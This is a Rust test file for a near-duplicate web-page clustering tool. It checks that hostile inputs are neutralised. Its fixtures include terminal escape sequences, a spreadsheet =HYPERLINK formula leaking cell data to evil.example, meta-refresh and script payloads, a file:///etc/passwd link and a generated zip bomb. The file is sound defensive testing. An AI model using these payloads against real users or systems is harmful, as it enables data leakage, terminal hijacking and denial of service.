//! Nothing lost, nothing let in: what a careful adversary tries through the command line.
//! Outputs that would replace the project or an input, pages past the size limit however well
//! they compress, titles that drive the terminal, cells that spreadsheets run as formulas, file
//! names that are not UTF-8, a project that cannot be written, exports read back, exit codes.
//! Each test names the hole it pins.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

mod common;

fn samecore(args: &[&dyn AsRef<std::ffi::OsStr>]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_samecore"))
        .args(args.iter().map(|a| a.as_ref()))
        .output()
        .unwrap()
}

fn ok(out: &Output) -> String {
    assert!(
        out.status.success(),
        "failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn refused(out: &Output) -> String {
    assert!(!out.status.success(), "should have been refused");
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn write(dir: &Path, rel: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, bytes).unwrap();
    path
}

/// A story told twice on two sites, plus pages whose titles, text and links are hostile.
fn hostile_folder(dir: &Path) -> PathBuf {
    let root = dir.join("pages");
    let story = "The council voted on Tuesday to close the old bridge for repairs that will \
                 take most of the winter, the mayor said, and drivers were told to use the ring \
                 road while engineers replace the steel beams and the worn deck of the bridge.";
    for (name, title) in [
        (
            "story/a.html",
            "\u{1b}[2J\u{1b}[31mScreen cleared\u{1b}]0;owned\u{7}",
        ),
        (
            "story/b.html",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
        ),
    ] {
        let page = format!(
            "<html><head><title>{title}</title>\
             <meta http-equiv\t=\t\"refresh\" content=\"0;url=http://evil.example/\"></head>\
             <body><script>fetch('http://tracker.example/')</script>\
             <iframe src=\"http://evil.example/frame\"></iframe>\
             <a href=\"javascript:alert(1)\">x</a><a href=\"file:///etc/passwd\">y</a>\
             <img src=\"http://tracker.example/pixel.gif\">\
             <p>{story}</p><p>abc\u{202e}fed</p></body></html>"
        );
        write(&root, name, page.as_bytes());
    }
    root
}

fn project_with_run(dir: &Path) -> (PathBuf, PathBuf) {
    let pages = hostile_folder(dir);
    let project = dir.join("p.samecore");
    ok(&samecore(&[&"run", &pages, &"--project", &project]));
    (project, pages)
}

#[test]
fn no_output_of_any_command_replaces_the_project_or_an_input() {
    let dir = tempfile::tempdir().unwrap();
    let (project, pages) = project_with_run(dir.path());
    let before = std::fs::read(&project).unwrap();
    let page = pages.join("story/a.html");
    let page_before = std::fs::read(&page).unwrap();
    let dotted = dir.path().join(".").join("p.samecore");
    let link = dir.path().join("link.csv");
    std::os::unix::fs::symlink(&project, &link).unwrap();
    let hard = dir.path().join("hard.csv");
    std::fs::hard_link(&project, &hard).unwrap();
    let wal = dir.path().join("p.samecore-wal");
    for out in [&project, &dotted, &link, &hard, &wal] {
        let e = refused(&samecore(&[
            &"export",
            &"--project",
            &project,
            &"pages",
            &"--format",
            &"csv",
            &"-o",
            out,
        ]));
        assert!(e.contains("nothing was written"), "{e}");
        let e = refused(&samecore(&[
            &"passages",
            &"--project",
            &project,
            &"--out",
            out,
        ]));
        assert!(e.contains("nothing was written"), "{e}");
    }
    // An archive's page, and a new file inside the folder being read.
    let e = refused(&samecore(&[
        &"export",
        &"--project",
        &project,
        &"pages",
        &"--format",
        &"csv",
        &"-o",
        &page,
    ]));
    assert!(e.contains("input archive"), "{e}");
    for flag in ["--clusters", "--pairs"] {
        let e = refused(&samecore(&[&"run", &pages, &flag, &pages.join("out.csv")]));
        assert!(e.contains("inside an input archive"), "{flag}: {e}");
        let e = refused(&samecore(&[&"run", &pages, &flag, &project]));
        assert!(e.contains("nothing was written"), "{flag}: {e}");
    }
    let e = refused(&samecore(&[&"history", &pages, &"--out", &page]));
    assert!(e.contains("nothing was written"), "{e}");
    let e = refused(&samecore(&[&"sign", &pages, &"--out", &pages]));
    assert!(e.contains("nothing was written"), "{e}");
    let gold = dir.path().join("synth.warc.gz");
    let e = refused(&samecore(&[
        &"synth", &"--out", &gold, &"--gold", &gold, &"--pages", &"10",
    ]));
    assert!(e.contains("nothing was written"), "{e}");
    let e = refused(&samecore(&[
        &"synth",
        &"--out",
        &project,
        &"--overwrite",
        &"--pages",
        &"10",
    ]));
    assert!(e.contains("SQLite file"), "{e}");
    assert_eq!(
        std::fs::read(&project).unwrap(),
        before,
        "the project is untouched"
    );
    assert_eq!(
        std::fs::read(&page).unwrap(),
        page_before,
        "the page is untouched"
    );
    // The project still opens with its run.
    let runs = dir.path().join("runs.csv");
    ok(&samecore(&[
        &"export",
        &"--project",
        &project,
        &"runs",
        &"-o",
        &runs,
    ]));
    assert_eq!(std::fs::read_to_string(&runs).unwrap().lines().count(), 2);
}

#[test]
fn titles_do_not_drive_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let (project, _) = project_with_run(dir.path());
    let listed = ok(&samecore(&[&"clusters", &"--project", &project]));
    let members = ok(&samecore(&[
        &"clusters",
        &"--project",
        &project,
        &"--cluster",
        &"0",
    ]));
    for text in [&listed, &members] {
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{text:?}"
        );
        assert!(!text.contains('\u{202e}'), "{text:?}");
    }
    assert!(members.contains("\\u{1b}[2J"), "{members}");
}

#[test]
fn spreadsheet_formulas_are_neutralised_in_csv_and_tsv_and_exact_in_parquet() {
    let dir = tempfile::tempdir().unwrap();
    let (project, _) = project_with_run(dir.path());
    let csv = dir.path().join("pages.csv");
    ok(&samecore(&[
        &"export",
        &"--project",
        &project,
        &"pages",
        &"-o",
        &csv,
    ]));
    let text = std::fs::read_to_string(&csv).unwrap();
    assert!(text.contains("'=HYPERLINK("), "{text}");
    let mut reader = csv::Reader::from_path(&csv).unwrap();
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let formula = cell.starts_with(['=', '+', '@'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!formula, "a formula cell {cell:?}");
        }
    }
    let tsv = dir.path().join("pages.tsv");
    ok(&samecore(&[
        &"export",
        &"--project",
        &project,
        &"pages",
        &"-o",
        &tsv,
    ]));
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b'\t')
        .from_path(&tsv)
        .unwrap();
    let titles: Vec<String> = reader
        .records()
        .map(|r| {
            r.unwrap()
                .iter()
                .map(String::from)
                .collect::<Vec<_>>()
                .join("|")
        })
        .collect();
    assert!(
        titles.iter().any(|t| t.contains("|'=HYPERLINK(")),
        "{titles:?}"
    );
    let jsonl = dir.path().join("pages.jsonl");
    ok(&samecore(&[
        &"export",
        &"--project",
        &project,
        &"pages",
        &"-o",
        &jsonl,
    ]));
    assert!(
        std::fs::read_to_string(&jsonl)
            .unwrap()
            .contains("\"=HYPERLINK(")
    );
}

#[test]
fn a_code_export_comes_back_whole_with_its_run_and_description() {
    let dir = tempfile::tempdir().unwrap();
    let (project, pages) = project_with_run(dir.path());
    ok(&samecore(&[
        &"code",
        &"--project",
        &project,
        &"add",
        &"=SUM(A1)",
        &"--description=-a formula?",
    ]));
    ok(&samecore(&[
        &"code",
        &"--project",
        &project,
        &"--by",
        &"ana",
        &"apply",
        &"=SUM(A1)",
        &"--cluster",
        &"0",
    ]));
    let codes = dir.path().join("codes.csv");
    ok(&samecore(&[
        &"export",
        &"--project",
        &project,
        &"codes",
        &"-o",
        &codes,
    ]));
    // A fresh project of the same archive, run alike.
    let fresh = dir.path().join("fresh.samecore");
    ok(&samecore(&[&"run", &pages, &"--project", &fresh]));
    ok(&samecore(&[
        &"export",
        &"--project",
        &fresh,
        &"--import-codes",
        &codes,
    ]));
    let again = dir.path().join("again.csv");
    ok(&samecore(&[
        &"export",
        &"--project",
        &fresh,
        &"codes",
        &"-o",
        &again,
    ]));
    assert_eq!(
        std::fs::read_to_string(&codes).unwrap(),
        std::fs::read_to_string(&again).unwrap(),
        "what export wrote, import reads back: run, description, the formula-like name"
    );
}

#[test]
fn a_badly_named_file_is_named_and_skipped_not_the_run_lost() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    let pages = hostile_folder(dir.path());
    let bad = pages.join(std::ffi::OsStr::from_bytes(b"story/\xff\xfebad.html"));
    std::fs::write(
        &bad,
        b"<html><body><p>a page with a bad name</p></body></html>",
    )
    .unwrap();
    let project = dir.path().join("p.samecore");
    let out = samecore(&[&"run", &pages, &"--project", &project]);
    ok(&out);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("\\xFF\\xFEbad.html") && err.contains("not UTF-8"),
        "{err}"
    );
    let csv = dir.path().join("pages.csv");
    ok(&samecore(&[
        &"export",
        &"--project",
        &project,
        &"pages",
        &"-o",
        &csv,
    ]));
    assert_eq!(std::fs::read_to_string(&csv).unwrap().lines().count(), 3);
}

#[test]
fn pages_past_the_size_limit_are_skipped_before_they_are_read() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let limit = samecore::archive::MAX_PAGE;
    // A zip of one page of zeros 1.5 times the limit: 100 KB on disk.
    let zip_path = dir.path().join("bomb.zip");
    {
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&zip_path).unwrap());
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .large_file(true);
        zip.start_file("big.html", options).unwrap();
        zip.write_all(b"<html><body><p>").unwrap();
        let zeros = vec![b'0'; 1 << 20];
        for _ in 0..((limit * 3 / 2) >> 20) {
            zip.write_all(&zeros).unwrap();
        }
        zip.start_file("small.html", options).unwrap();
        zip.write_all(b"<html><body><p>a small page</p></body></html>")
            .unwrap();
        zip.finish().unwrap();
    }
    assert!(std::fs::metadata(&zip_path).unwrap().len() < limit / 50);
    // A folder page past the limit (sparse: no disk used).
    let folder = dir.path().join("folder");
    std::fs::create_dir(&folder).unwrap();
    std::fs::File::create(folder.join("big.html"))
        .unwrap()
        .set_len(limit + 1)
        .unwrap();
    write(
        &folder,
        "small.html",
        b"<html><body><p>a small page</p></body></html>",
    );
    for input in [&zip_path, &folder] {
        let (out, peak_kb) = with_peak_memory(&["info", input.to_str().unwrap()]);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(text.contains("too-large 1"), "{text}");
        assert!(text.contains("documents:      1"), "{text}");
        // The limit once, with room for the program itself; never the page inflated whole.
        assert!(
            peak_kb * 1024 < limit * 2 + (64 << 20),
            "{}: peak {peak_kb} kB",
            input.display()
        );
        let (run, _) = with_peak_memory(&["run", input.to_str().unwrap()]);
        assert!(
            run.status.success(),
            "{}",
            String::from_utf8_lossy(&run.stderr)
        );
    }
}

/// Run samecore with `args`; its output and its peak resident memory in kB (`wait4`).
fn with_peak_memory(args: &[&str]) -> (Output, u64) {
    use std::process::Stdio;
    let child = Command::new(env!("CARGO_BIN_EXE_samecore"))
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id() as libc::pid_t;
    // Read both pipes on threads so a full pipe cannot stall the child.
    let mut child = child;
    let mut stdout = child.stdout.take().unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let out_thread = std::thread::spawn(move || {
        let mut b = Vec::new();
        std::io::Read::read_to_end(&mut stdout, &mut b).unwrap();
        b
    });
    let err_thread = std::thread::spawn(move || {
        let mut b = Vec::new();
        std::io::Read::read_to_end(&mut stderr, &mut b).unwrap();
        b
    });
    let mut status = 0;
    // SAFETY: rusage is plain data; wait4 fills it for this child alone.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let waited = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    assert_eq!(waited, pid);
    let stdout = out_thread.join().unwrap();
    let stderr = err_thread.join().unwrap();
    let status = std::os::unix::process::ExitStatusExt::from_raw(status);
    (
        Output {
            status,
            stdout,
            stderr,
        },
        usage.ru_maxrss as u64,
    )
}

#[test]
fn a_long_one_line_page_takes_memory_in_proportion_to_it() {
    // A story of 24 MB without a line break: the run's memory over its footprint (a run of a
    // one-word page) stays within three times the page (it was 4.8 times: the dates' text kept
    // for the next page, the content text copied and grown by doubling, every term's hash and
    // every non-stopword's position held at once).
    let dir = tempfile::tempdir().unwrap();
    let small = dir.path().join("small");
    std::fs::create_dir(&small).unwrap();
    write(&small, "a.html", b"<p>word</p>");
    let long = dir.path().join("long");
    std::fs::create_dir(&long).unwrap();
    let words = [
        "the", "council", "of", "a", "bridge", "voted", "is", "repairs", "to",
    ];
    let mut page = String::from("<html><body>");
    let mut n = 0u64;
    while page.len() < 24 << 20 {
        page.push_str("<p>");
        for _ in 0..80 {
            n = n
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            page.push_str(words[(n >> 33) as usize % words.len()]);
            page.push_str(&format!("{} ", n % 5000));
        }
        page.push_str("</p>");
    }
    write(&long, "a.html", page.as_bytes());
    let (out, footprint) = with_peak_memory(&["run", small.to_str().unwrap()]);
    assert!(out.status.success());
    let (out, peak) = with_peak_memory(&["run", long.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let over = peak.saturating_sub(footprint) as f64 * 1024.0 / page.len() as f64;
    assert!(over <= 3.0, "{over:.2} times the page over the footprint");
}

#[test]
fn info_fails_when_nothing_was_read_and_still_reports_the_good_files() {
    let dir = tempfile::tempdir().unwrap();
    let pages = hostile_folder(dir.path());
    let empty = dir.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    let e = refused(&samecore(&[&"info", &empty]));
    assert!(e.contains("empty"), "{e}");
    let truncated = write(
        dir.path(),
        "cut.warc",
        b"WARC/1.0\r\nWARC-Type: response\r\nContent-Le",
    );
    refused(&samecore(&[&"info", &truncated]));
    let missing = dir.path().join("missing.warc.gz");
    let out = samecore(&[&"info", &pages, &missing]);
    let e = refused(&out);
    assert!(e.contains("missing.warc.gz"), "{e}");
    let report = String::from_utf8_lossy(&out.stdout);
    assert!(
        report.contains("documents:      2"),
        "the good input's report: {report}"
    );
    // Links that lead nowhere are said, not counted silently.
    std::os::unix::fs::symlink(dir.path().join("nowhere.html"), pages.join("dangling.html"))
        .unwrap();
    std::os::unix::fs::symlink(pages.join("loop.html"), pages.join("loop.html")).unwrap();
    let report = ok(&samecore(&[&"info", &pages]));
    assert!(report.contains("symlink 2"), "{report}");
    assert!(report.contains("leads nowhere"), "{report}");
}

#[test]
fn a_project_set_back_by_hand_is_explained() {
    let dir = tempfile::tempdir().unwrap();
    let (project, _) = project_with_run(dir.path());
    let conn = rusqlite::Connection::open(&project).unwrap();
    conn.pragma_update(None, "user_version", 1).unwrap();
    drop(conn);
    let e = refused(&samecore(&[&"clusters", &"--project", &project]));
    assert!(
        e.contains("its tables are not") && e.contains("left as it was"),
        "{e}"
    );
}

#[test]
fn a_project_that_cannot_be_written_is_found_before_the_work() {
    let dir = tempfile::tempdir().unwrap();
    let (project, pages) = project_with_run(dir.path());
    // Root writes through permission bits: an immutable file is the only read-only one then.
    let locked = Command::new("chattr").arg("+i").arg(&project).status();
    let is_root = unsafe { libc::geteuid() } == 0;
    if !is_root {
        let mut perms = std::fs::metadata(&project).unwrap().permissions();
        std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o444);
        std::fs::set_permissions(&project, perms).unwrap();
    } else if !locked.is_ok_and(|s| s.success()) {
        eprintln!("SKIPPED: neither chattr +i nor a non-root user to make the project read-only");
        return;
    }
    let e = refused(&samecore(&[&"run", &pages, &"--project", &project]));
    if is_root {
        let _ = Command::new("chattr").arg("-i").arg(&project).status();
    }
    assert!(e.contains("cannot write to project"), "{e}");
    assert!(e.contains("p.samecore"), "{e}");
    assert!(!e.contains("documents"), "nothing was read first: {e}");
}

/// The `page` and `zip` fuzz targets' seeds and every crash they found (`crash-*`), replayed:
/// nothing panics, and the DOM tokenizer stays linear on deep nesting.
#[test]
fn fuzz_corpus_of_pages_and_zips_replays() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/fuzz");
    let files = |sub: &str| {
        let mut f: Vec<PathBuf> = std::fs::read_dir(root.join(sub))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        f.sort();
        f
    };
    let pages = files("page");
    assert!(pages.len() >= 4);
    for path in pages {
        let terms = samecore::archive::scan_page(&std::fs::read(&path).unwrap());
        assert!(terms > 0, "{}", path.display());
    }
    for path in files("zip") {
        let dir = tempfile::tempdir().unwrap();
        let copy = dir.path().join("pages.zip");
        std::fs::copy(&path, &copy).unwrap();
        let options = samecore::archive::ReadOptions::default();
        let progress = samecore::progress::Progress::new();
        let mut docs = 0;
        let report =
            samecore::archive::read_file(&copy, &options, &progress, &mut |_| docs += 1).unwrap();
        assert_eq!(docs, 2, "{:?}", report.skipped);
        assert_eq!(report.skipped.get("unsafe-path"), Some(&1));
    }
}

/// A seeded mutation fuzzer over the page and zip seeds that runs with the tests (cargo-fuzz's
/// `page` and `zip` targets go further where a nightly toolchain is at hand).
#[test]
fn seeded_mutations_of_pages_and_zips_never_panic() {
    use rand::{Rng, SeedableRng};
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(20261201);
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/fuzz");
    let page = std::fs::read(root.join("page/seed-refresh-spellings")).unwrap();
    let zip = std::fs::read(root.join("zip/seed-pages.zip")).unwrap();
    let mutate = |rng: &mut rand_chacha::ChaCha8Rng, seed: &[u8]| {
        let mut bytes = seed.to_vec();
        for _ in 0..rng.random_range(1..8) {
            let at = rng.random_range(0..bytes.len().max(1));
            match rng.random_range(0..4) {
                0 if !bytes.is_empty() => bytes[at] ^= 1 << rng.random_range(0..8),
                1 => bytes.insert(at.min(bytes.len()), rng.random()),
                2 if !bytes.is_empty() => {
                    bytes.remove(at);
                }
                _ => {
                    let from = rng.random_range(0..seed.len());
                    let len = rng.random_range(0..64).min(seed.len() - from);
                    let at = at.min(bytes.len());
                    bytes.splice(at..at, seed[from..from + len].iter().copied());
                }
            }
        }
        bytes
    };
    for _ in 0..300 {
        samecore::archive::scan_page(&mutate(&mut rng, &page));
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("m.zip");
    let options = samecore::archive::ReadOptions::default();
    for _ in 0..200 {
        std::fs::write(&path, mutate(&mut rng, &zip)).unwrap();
        let progress = samecore::progress::Progress::new();
        if let Ok(report) = samecore::archive::read_file(&path, &options, &progress, &mut |_| {}) {
            let records: u64 = report.records.values().sum();
            assert!(report.documents <= records);
        }
    }
}

/// A zip member that inflates more than 200 times its compressed size past the first MiB is
/// cut off as it inflates (what a member lying about its size meets too), and named.
#[test]
fn a_member_past_the_ratio_limit_is_cut_off_as_it_inflates() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ratio.zip");
    {
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        zip.start_file("zeros.html", options).unwrap();
        zip.write_all(b"<p>").unwrap();
        zip.write_all(&vec![b'0'; 8 << 20]).unwrap();
        zip.start_file("small.html", options).unwrap();
        zip.write_all(b"<html><body><p>a small page</p></body></html>")
            .unwrap();
        zip.finish().unwrap();
    }
    let out = samecore(&[&"info", &path]);
    let text = ok(&out);
    assert!(
        text.contains("too-large 1") && text.contains("documents:      1"),
        "{text}"
    );
    assert!(text.contains("zip bomb"), "{text}");
}

/// `-o /dev/stdout` into a pipe writes the export there: the check that an output is not a
/// project never opens a pipe to read it (that waited for ever).
#[cfg(unix)]
#[test]
fn an_export_to_standard_output_through_a_pipe_is_written_not_waited_on() {
    use std::io::Read;
    use std::process::{Command, Stdio};
    let dir = tempfile::tempdir().unwrap();
    let (project, _) = project_with_run(dir.path());
    let mut child = Command::new(env!("CARGO_BIN_EXE_samecore"))
        .args([
            "export",
            "pages",
            "--format",
            "csv",
            "-o",
            "/dev/stdout",
            "--project",
        ])
        .arg(&project)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut text = String::new();
        stdout.read_to_string(&mut text).map(|_| text)
    });
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            panic!("samecore export -o /dev/stdout did not finish in 60 s");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    assert!(status.success());
    let text = reader.join().unwrap().unwrap();
    assert!(text.starts_with("key,"), "{text:.200}");
    assert!(text.lines().count() > 1);
}

/// An export through a symlink writes the file it points to and leaves the link a link.
#[cfg(unix)]
#[test]
fn an_export_through_a_symlink_writes_its_target() {
    let dir = tempfile::tempdir().unwrap();
    let (project, _) = project_with_run(dir.path());
    let target = dir.path().join("real.csv");
    std::fs::write(&target, "old\n").unwrap();
    let link = dir.path().join("link.csv");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    ok(&samecore(&[
        &"export",
        &"pages",
        &"-o",
        &link,
        &"--project",
        &project,
    ]));
    assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
    assert!(
        std::fs::read_to_string(&target)
            .unwrap()
            .starts_with("key,")
    );
}

/// `run` on pages no two of which are alike says why and what to try.
#[test]
fn an_empty_run_says_why_and_what_to_try() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "a.html",
        b"<html><body><p>Short one.</p></body></html>",
    );
    write(
        dir.path(),
        "b.html",
        b"<html><body><p>Another.</p></body></html>",
    );
    let said = ok(&samecore(&[&"run", &dir.path()]));
    assert!(
        said.contains(
            "no two of the 2 pages reached the threshold (2 left out for too few signatures)"
        ),
        "{said}"
    );
    assert!(said.contains("--algo shingles or simhash"), "{said}");
}
